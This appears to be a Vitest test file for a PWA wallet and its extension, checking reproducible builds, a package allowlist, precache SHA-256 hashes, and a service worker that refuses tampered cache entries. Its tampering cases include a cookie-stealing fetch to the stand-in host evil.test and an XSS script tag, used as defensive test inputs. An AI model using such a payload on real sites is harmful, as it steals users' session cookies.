/**
 * T11 (code integrity), at build level:
 *  - the PWA and the extension, built twice from the same sources into different folders, are
 *    byte-identical (so a released build can be reproduced and compared);
 *  - every npm package inside the PWA, its service worker and the extension is on the allowlist of
 *    scripts/check-bundle-deps.ts (module lists from the bundler, not guessed from output);
 *  - sw.js lists every precached file with the SHA-256 the file really has;
 *  - the service worker's cache check (pwa/platform/sw-integrity.ts) refuses 240 generated
 *    tamperings of the real built assets — and serves the untouched ones.
 * hash-wasm's WASM imports are checked by the vault's own test (tests/unit/crypto/envelope-wasm.test.ts).
 * Offline refusal of a tampered Cache Storage entry in Chromium: tests/e2e/security-browser.test.ts.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCacheIntegrityCheck, sriOf } from '../../pwa/platform/sw-integrity.ts';
import { type BuiltBundles, buildBundles, checkAllowlist, filesOf } from '../../scripts/check-bundle-deps.ts';
import { tally } from './ledger.ts';
import { seeded } from './support/prng.ts';

let parent: string;
let first: BuiltBundles;
let second: BuiltBundles;

beforeAll(async () => {
  parent = mkdtempSync(join(tmpdir(), 'ksef-wallet-integrity-'));
  first = await buildBundles(join(parent, 'a'));
  second = await buildBundles(join(parent, 'b'));
}, 300_000);
afterAll(() => {
  rmSync(parent, { recursive: true, force: true });
});

describe('builds (T11)', () => {
  it('are byte-identical when made twice from the same sources', () => {
    const t = tally('T11', 'files of two builds compared byte for byte');
    for (const which of ['pwa', 'extension'] as const) {
      const a = filesOf(first.dirs[which]);
      const b = filesOf(second.dirs[which]);
      expect([...a.keys()]).toEqual([...b.keys()]);
      for (const [path, bytes] of a)
        t.add({ leaked: !bytes.equals(b.get(path) ?? Buffer.alloc(0)), note: `${which}/${path} differs` });
      expect(a.size).toBeGreaterThan(5);
    }
    expect(t.record().notes).toEqual([]);
  });

  it('contain only allowlisted npm packages (PWA, service worker, extension)', () => {
    const t = tally('T11', 'npm packages in the bundles against the allowlist');
    const { found, refused } = checkAllowlist(first.modules);
    for (const [bundle, packages] of Object.entries(found))
      for (const p of packages)
        t.add({ leaked: refused.includes(`${bundle}: ${p}`), note: `${bundle}: ${p}` });
    // Positive control: a package nobody allowed is refused.
    const planted = checkAllowlist({
      ...first.modules,
      pwa: new Set([...first.modules.pwa, resolve('node_modules/left-pad/index.js')]),
    });
    expect(planted.refused).toContain('pwa: left-pad');
    t.control();
    expect(t.record().notes).toEqual([]);
    expect(found.serviceWorker).toContain('workbox-precaching');
    expect(found.pwa).toContain('preact');
  });

  it('put the true SHA-256 of every precached file into sw.js', () => {
    const t = tally('T11', 'precache entries with their SHA-256 in sw.js');
    const sw = readFileSync(join(first.dirs.pwa, 'sw.js'), 'utf8');
    const entries = [
      ...sw.matchAll(
        /\{\s*"?integrity"?:\s*"(sha256-[^"]+)",\s*"?revision"?:\s*(?:"[^"]*"|null),\s*"?url"?:\s*"([^"]+)"\s*\}/g,
      ),
    ].map((m) => ({ integrity: m[1]!, url: m[2]! }));
    const files = [...filesOf(first.dirs.pwa).keys()].filter(
      (f) => /\.(js|css|html|svg|png|wasm|webmanifest)$/.test(f) && f !== 'sw.js',
    );
    expect(new Set(entries.map((e) => e.url))).toEqual(new Set(files));
    for (const e of entries) {
      const actual = `sha256-${createHash('sha256')
        .update(readFileSync(join(first.dirs.pwa, e.url)))
        .digest('base64')}`;
      t.add({ leaked: actual !== e.integrity, note: `${e.url}: ${e.integrity} ≠ ${actual}` });
    }
    expect(t.record().notes).toEqual([]);
  });
});

describe('the service worker cache check (T11)', () => {
  it('refuses 240 tampered copies of the built assets and serves the untouched ones', async () => {
    const rand = seeded(11);
    const t = tally('T11', 'tampered Cache Storage entries (service worker check, Node)');
    const base = 'http://127.0.0.1:5180/';
    const assets = [...filesOf(first.dirs.pwa).entries()].filter(
      ([f]) => /\.(js|css|html)$/.test(f) && f !== 'sw.js',
    );
    const expected = new Map<string, string>();
    for (const [f, bytes] of assets) expected.set(`${base}${f}`, await sriOf(crypto.subtle, bytes));
    const dropped: string[] = [];
    const check = createCacheIntegrityCheck({
      subtle: crypto.subtle,
      expected,
      drop: async (_cache, request) => {
        dropped.push(request.url);
      },
    });
    const use = (url: string, body: Uint8Array | string) =>
      check.cachedResponseWillBeUsed({
        cacheName: 'workbox-precache-v2',
        request: new Request(url),
        cachedResponse: new Response(typeof body === 'string' ? body : new Blob([new Uint8Array(body)])),
      });
    for (let i = 0; i < 240; i++) {
      const [file, bytes] = rand.pick(assets);
      const url = `${base}${file}`;
      const tampered = rand.pick([
        () => {
          const b = new Uint8Array(bytes);
          const at = rand.int(0, b.length - 1);
          b[at] = (b[at] ?? 0) ^ (1 << rand.int(0, 7));
          return b;
        },
        () => Buffer.concat([bytes, Buffer.from(';fetch("https://evil.test/?"+document.cookie)')]),
        () => Buffer.concat([Buffer.from('/* */'), bytes]),
        () => bytes.subarray(0, rand.int(0, bytes.length - 1)),
        () => '<script>alert(1)</script>',
        () => new Uint8Array(0),
      ])();
      const before = dropped.length;
      const served = await use(url, tampered);
      t.add({ leaked: served !== null || dropped.length !== before + 1, note: `#${i} ${file}` });
    }
    // An entry the build never listed (planted by a script) is not served either.
    const planted = await use(`${base}assets/evil.js`, 'alert(1)');
    t.add({ leaked: planted !== null, note: 'an unlisted entry was served' });
    // Positive control: every untouched asset is served as it is.
    for (const [file, bytes] of assets) expect(await use(`${base}${file}`, bytes)).not.toBeNull();
    t.control();
    expect(t.record().notes).toEqual([]);
  });
});
